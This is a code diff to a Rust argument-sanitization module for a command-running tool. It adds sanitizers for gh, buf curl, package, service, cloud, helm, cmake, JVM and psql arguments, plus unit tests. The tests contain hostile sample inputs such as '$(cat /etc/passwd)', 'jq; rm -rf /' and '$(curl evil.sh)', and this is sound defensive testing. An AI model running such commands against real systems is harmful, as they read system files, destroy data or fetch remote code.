@@ -1,5 +1,5 @@
 // file: src/security/sanitizer.rs
-// version: 1.0.0
+// version: 1.10.0
 // guid: b2c3d4e5-f6a7-8901-bcde-f23456789012
 
 //! Argument sanitization module
@@ -18,12 +18,23 @@ pub fn sanitize_arguments(command: &str, args: &[String]) -> Result<Vec<String>>
     for arg in args {
         let clean_arg = match command {
             "git" => sanitize_git_argument(arg)?,
+            "gh" => sanitize_gh_argument(arg)?,
+            "buf" if args.first().is_some_and(|first| first == "curl") => {
+                sanitize_buf_curl_argument(arg)?
+            }
             "buf" => sanitize_buf_argument(arg)?,
             "cargo" => sanitize_cargo_argument(arg)?,
             "go" => sanitize_go_argument(arg)?,
             "docker" => sanitize_docker_argument(arg)?,
             "npm" | "yarn" | "pnpm" => sanitize_node_argument(arg)?,
             "python" | "python3" => sanitize_python_argument(arg)?,
+            "brew" | "apt-get" | "dnf" | "rpm" => sanitize_package_argument(arg)?,
+            "systemctl" | "journalctl" | "launchctl" => sanitize_service_argument(arg)?,
+            "aws" | "gcloud" | "az" => sanitize_cloud_argument(arg)?,
+            "helm" => sanitize_helm_argument(arg)?,
+            "cmake" | "ctest" => sanitize_cmake_argument(arg)?,
+            "psql" => sanitize_sql_argument(arg)?,
+            "gradle" | "gradlew" | "mvn" => sanitize_jvm_argument(arg)?,
             "ls" | "cat" | "cp" | "mv" | "rm" | "mkdir" | "find" | "grep" => {
                 sanitize_file_argument(arg)?
             }
@@ -82,20 +93,63 @@ fn sanitize_git_argument(arg: &str) -> Result<String> {
     Ok(clean)
 }
 
+/// Sanitize GitHub CLI arguments
+///
+/// Issue titles and comments are free text, so punctuation is kept; only shell
+/// substitution and control characters are rejected or removed.
+fn sanitize_gh_argument(arg: &str) -> Result<String> {
+    let dangerous_patterns = [r"`", r"\$\(", r"\$\{"];
+
+    for pattern in &dangerous_patterns {
+        let regex = Regex::new(pattern).map_err(|e| AgentError::validation(format!("Regex error: {}", e)))?;
+        if regex.is_match(arg) {
+            return Err(AgentError::security(format!(
+                "GitHub CLI argument contains dangerous pattern '{}': {}",
+                pattern, arg
+            )));
+        }
+    }
+
+    let clean = arg.chars().filter(|c| !c.is_control()).collect::<String>();
+
+    validate_length(&clean, 1000)?;
+    Ok(clean)
+}
+
 /// Sanitize buf command arguments
 fn sanitize_buf_argument(arg: &str) -> Result<String> {
     // Buf is generally safe, but check for command injection
     check_for_injection_patterns(arg)?;
 
+    // `#` and `,` separate the options of inputs such as `.git#ref=main,subdir=proto`
     let clean = arg
         .chars()
-        .filter(|c| c.is_alphanumeric() || " -_.:/=".contains(*c))
+        .filter(|c| c.is_alphanumeric() || " -_.:/=#,".contains(*c))
         .collect::<String>();
 
     validate_length(&clean, 500)?;
     Ok(clean)
 }
 
+/// Sanitize `buf curl` arguments, refusing rather than stripping: header values such as
+/// tokens use `+` and `=`, and the request body is read from standard input as `@-`
+fn sanitize_buf_curl_argument(arg: &str) -> Result<String> {
+    if ["`", "$(", "${"].iter().any(|pattern| arg.contains(pattern)) {
+        return Err(AgentError::security(format!(
+            "buf curl argument contains a shell substitution: {}",
+            arg
+        )));
+    }
+    if arg.chars().any(char::is_control) {
+        return Err(AgentError::security(format!(
+            "buf curl argument contains control characters: {:?}",
+            arg
+        )));
+    }
+    validate_length(arg, 2000)?;
+    Ok(arg.to_string())
+}
+
 /// Sanitize cargo command arguments
 fn sanitize_cargo_argument(arg: &str) -> Result<String> {
     // Cargo can execute arbitrary code via build scripts, so be extra careful
@@ -277,6 +331,132 @@ fn sanitize_generic_argument(arg: &str) -> Result<String> {
     Ok(clean)
 }
 
+/// Sanitize package manager arguments; package names are refused rather than changed, since
+/// removing a character could name another package
+fn sanitize_package_argument(arg: &str) -> Result<String> {
+    check_for_injection_patterns(arg)?;
+    if let Some(c) = arg
+        .chars()
+        .find(|c| !c.is_ascii_alphanumeric() && !"-_.:/=+@~".contains(*c))
+    {
+        return Err(AgentError::security(format!(
+            "Package argument contains '{}': {}",
+            c, arg
+        )));
+    }
+    validate_length(arg, 500)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize service manager arguments, refusing rather than stripping anything unexpected,
+/// since templated units such as `worker@1.service` contain `@`
+fn sanitize_service_argument(arg: &str) -> Result<String> {
+    check_for_injection_patterns(arg)?;
+    if let Some(c) = arg
+        .chars()
+        .find(|c| !c.is_ascii_alphanumeric() && !"-_.:/=+@ ,".contains(*c))
+    {
+        return Err(AgentError::security(format!(
+            "Service argument contains '{}': {}",
+            c, arg
+        )));
+    }
+    validate_length(arg, 500)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize cloud CLI arguments, whose filters, queries and inline JSON legitimately use `|`,
+/// `>`, brackets and quotes; only shell substitutions and control characters are refused
+fn sanitize_cloud_argument(arg: &str) -> Result<String> {
+    if ["`", "$(", "${"].iter().any(|pattern| arg.contains(pattern)) {
+        return Err(AgentError::security(format!(
+            "Cloud argument contains a shell substitution: {}",
+            arg
+        )));
+    }
+    if arg.chars().any(char::is_control) {
+        return Err(AgentError::security(format!(
+            "Cloud argument contains control characters: {:?}",
+            arg
+        )));
+    }
+    validate_length(arg, 1000)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize helm arguments, whose `--set` values use commas, braces and brackets for lists and
+/// nested keys; only shell substitutions and control characters are refused
+fn sanitize_helm_argument(arg: &str) -> Result<String> {
+    if ["`", "$(", "${"].iter().any(|pattern| arg.contains(pattern)) {
+        return Err(AgentError::security(format!(
+            "Helm argument contains a shell substitution: {}",
+            arg
+        )));
+    }
+    if arg.chars().any(char::is_control) {
+        return Err(AgentError::security(format!(
+            "Helm argument contains control characters: {:?}",
+            arg
+        )));
+    }
+    validate_length(arg, 1000)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize cmake and ctest arguments: cache entries hold `;`-separated lists and ctest's `-R`
+/// and `-E` take regular expressions, so only shell substitutions and control characters are
+/// refused
+fn sanitize_cmake_argument(arg: &str) -> Result<String> {
+    if ["`", "$(", "${"].iter().any(|pattern| arg.contains(pattern)) {
+        return Err(AgentError::security(format!(
+            "CMake argument contains a shell substitution: {}",
+            arg
+        )));
+    }
+    if arg.chars().any(char::is_control) {
+        return Err(AgentError::security(format!(
+            "CMake argument contains control characters: {:?}",
+            arg
+        )));
+    }
+    validate_length(arg, 1000)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize Gradle and Maven arguments, refusing rather than stripping anything unexpected,
+/// since test filters such as `CalcTest#adds*` and `app.*Test` depend on every character
+fn sanitize_jvm_argument(arg: &str) -> Result<String> {
+    check_for_injection_patterns(arg)?;
+    if let Some(c) = arg
+        .chars()
+        .find(|c| !c.is_alphanumeric() && !"-_.:/=+@ ,*#[]".contains(*c))
+    {
+        return Err(AgentError::security(format!(
+            "Gradle or Maven argument contains '{}': {}",
+            c, arg
+        )));
+    }
+    validate_length(arg, 500)?;
+    Ok(arg.to_string())
+}
+
+/// Sanitize psql arguments, whose SQL legitimately spans lines and uses quotes, semicolons and
+/// operators; psql runs it on the server, not in a shell, so only other control characters are
+/// refused
+fn sanitize_sql_argument(arg: &str) -> Result<String> {
+    if arg
+        .chars()
+        .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
+    {
+        return Err(AgentError::security(format!(
+            "SQL argument contains control characters: {:?}",
+            arg
+        )));
+    }
+    validate_length(arg, 100_000)?;
+    Ok(arg.to_string())
+}
+
 /// Check for common injection patterns
 fn check_for_injection_patterns(arg: &str) -> Result<()> {
     let injection_patterns = [
@@ -340,6 +520,98 @@ mod tests {
         assert!(sanitize_git_argument("$(cat /etc/passwd)").is_err());
     }
 
+    #[test]
+    fn test_gh_sanitization() {
+        assert_eq!(
+            sanitize_gh_argument("TODO: handle 'a, b' (later)!").unwrap(),
+            "TODO: handle 'a, b' (later)!"
+        );
+        assert!(sanitize_gh_argument("title `whoami`").is_err());
+        assert!(sanitize_gh_argument("$(cat /etc/passwd)").is_err());
+    }
+
+    #[test]
+    fn test_package_sanitization() {
+        assert_eq!(sanitize_package_argument("python@3.12").unwrap(), "python@3.12");
+        assert_eq!(sanitize_package_argument("g++").unwrap(), "g++");
+        assert!(sanitize_package_argument("jq*").is_err());
+        assert!(sanitize_package_argument("jq; rm -rf /").is_err());
+    }
+
+    #[test]
+    fn test_service_sanitization() {
+        assert_eq!(sanitize_service_argument("worker@1.service").unwrap(), "worker@1.service");
+        assert_eq!(sanitize_service_argument("--since=1 hour ago").unwrap(), "--since=1 hour ago");
+        assert!(sanitize_service_argument("web$(id)").is_err());
+        assert!(sanitize_service_argument("web\\x2d").is_err());
+    }
+
+    #[test]
+    fn test_cloud_sanitization() {
+        let query = "Reservations[].Instances[?State.Name=='running'] | [0].InstanceId";
+        assert_eq!(sanitize_cloud_argument(query).unwrap(), query);
+        assert!(sanitize_cloud_argument("{\"Key\": \"env\"}").is_ok());
+        assert!(sanitize_cloud_argument("$(curl evil.sh)").is_err());
+        assert!(sanitize_cloud_argument("a\nb").is_err());
+    }
+
+    #[test]
+    fn test_helm_sanitization() {
+        let set = "ingress.hosts={a.example.com,b.example.com}";
+        assert_eq!(sanitize_helm_argument(set).unwrap(), set);
+        assert_eq!(
+            sanitize_helm_argument("env[0].name=MODE").unwrap(),
+            "env[0].name=MODE"
+        );
+        assert!(sanitize_helm_argument("image.tag=${TAG}").is_err());
+    }
+
+    #[test]
+    fn test_buf_curl_sanitization() {
+        let args: Vec<String> = ["curl", "-H", "Authorization: Bearer a+b/c==", "-d", "@-"]
+            .iter()
+            .map(|arg| arg.to_string())
+            .collect();
+        assert_eq!(sanitize_arguments("buf", &args).unwrap(), args);
+        assert!(sanitize_buf_curl_argument("$(id)").is_err());
+        // Other buf subcommands keep the stricter sanitizer
+        let args = vec!["lint".to_string(), "@-".to_string()];
+        assert_eq!(sanitize_arguments("buf", &args).unwrap()[1], "-");
+        assert_eq!(
+            sanitize_buf_argument(".git#ref=main,subdir=proto").unwrap(),
+            ".git#ref=main,subdir=proto"
+        );
+    }
+
+    #[test]
+    fn test_cmake_sanitization() {
+        let list = "-DCMAKE_PREFIX_PATH=/opt/qt;/opt/boost";
+        assert_eq!(sanitize_cmake_argument(list).unwrap(), list);
+        assert_eq!(
+            sanitize_cmake_argument("^(unit|io)_.*$").unwrap(),
+            "^(unit|io)_.*$"
+        );
+        assert!(sanitize_cmake_argument("-DX=$(id)").is_err());
+    }
+
+    #[test]
+    fn test_jvm_sanitization() {
+        assert_eq!(
+            sanitize_jvm_argument("-Dtest=CalcTest#adds*").unwrap(),
+            "-Dtest=CalcTest#adds*"
+        );
+        assert_eq!(sanitize_jvm_argument("app.*Test").unwrap(), "app.*Test");
+        assert!(sanitize_jvm_argument("-Dx=$(id)").is_err());
+        assert!(sanitize_jvm_argument("-Dx='a'").is_err());
+    }
+
+    #[test]
+    fn test_sql_sanitization() {
+        let sql = "SELECT id, name\nFROM users\nWHERE email LIKE '%@example.com' AND age > 30;";
+        assert_eq!(sanitize_sql_argument(sql).unwrap(), sql);
+        assert!(sanitize_sql_argument("SELECT 1\0").is_err());
+    }
+
     #[test]
     fn test_injection_detection() {
         let dangerous_inputs = [